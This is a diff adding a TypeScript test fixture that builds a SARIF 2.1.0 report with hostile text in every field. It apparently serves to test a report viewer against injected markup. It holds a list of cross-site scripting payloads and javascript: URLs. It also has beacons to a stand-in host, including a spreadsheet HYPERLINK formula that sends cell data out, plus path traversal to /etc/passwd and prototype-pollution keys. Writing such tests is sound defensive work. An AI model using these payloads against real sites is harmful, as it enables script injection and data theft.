@@ -1,0 +1,91 @@
+/** Nothing is there; a page that asks for it has been tricked. */
+export const HOSTILE_HOST = 'hostile.invalid';
+
+const run = 'globalThis.hostileCodeRan=true';
+const beacon = `https://${HOSTILE_HOST}`;
+
+/** Texts that run code or call home wherever they are taken for markup. */
+export const payloads = [
+  `<script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="${beacon}/pixel.png">`,
+  `"><svg onload="${run}">`,
+  `'><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<link rel=stylesheet href="${beacon}/x.css">`,
+  `<style>@import url(${beacon}/y.css);</style>`,
+  `<body onload="${run}"><input autofocus onfocus="${run}">`,
+  `<details open ontoggle="${run}">`,
+  `<a href="javascript:${run}">click</a>`,
+  `[click](javascript:${run}) ![pixel](${beacon}/md.png)`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
+  `{{constructor.constructor('${run}')()}} \${${run}}`,
+  `\u202egnp.exe\u202c \u2066hidden\u2069 \u0000\u001b[31mred \ud800`,
+  `=HYPERLINK("${beacon}/?x="&A1,"click") @SUM(1) +1 -1`,
+];
+
+const urls = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}//https://example.com`,
+  `\u0001javascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `vbscript:${run}`,
+  `//${HOSTILE_HOST}/x`,
+  'file:///etc/passwd',
+  'https://user:password@example.com/',
+];
+
+const paths = ['', '/etc/passwd', '../../etc/passwd', `javascript:${run}`];
+const lines = [2 ** 31, -1, 0, 1.5, '7', null];
+
+/** A file that is valid SARIF 2.1.0 with something hostile in every text: one run for each payload. */
+export function hostileSarif() {
+  return {
+    version: '2.1.0',
+    runs: payloads.map((text, i) => ({
+      tool: {
+        driver: {
+          name: text,
+          version: text,
+          informationUri: urls[i % urls.length],
+          rules: [
+            {
+              id: text,
+              name: text,
+              shortDescription: { text, markdown: text },
+              fullDescription: { text, markdown: text },
+              help: { text, markdown: text },
+              helpUri: urls[i % urls.length],
+              properties: { tags: [text], 'security-severity': '9.8' },
+            },
+          ],
+        },
+      },
+      results: urls.slice(0, 2).map((url, j) => ({
+        ruleId: text,
+        ruleIndex: 0,
+        level: 'error',
+        message: { text: `${text} ${j}`, markdown: text },
+        hostedViewerUri: url,
+        workItemUris: [url],
+        fingerprints: { [text]: `${text}${j}` },
+        locations: [
+          {
+            physicalLocation: {
+              artifactLocation: {
+                uri: j === 0 ? text : paths[i % paths.length],
+              },
+              region: {
+                startLine: lines[i % lines.length],
+                snippet: { text, markdown: text },
+              },
+            },
+            message: { text, markdown: text },
+          },
+        ],
+        ['__proto__']: { hostileCodeRan: true },
+        constructor: { prototype: { hostileCodeRan: true } },
+      })),
+    })),
+  };
+}
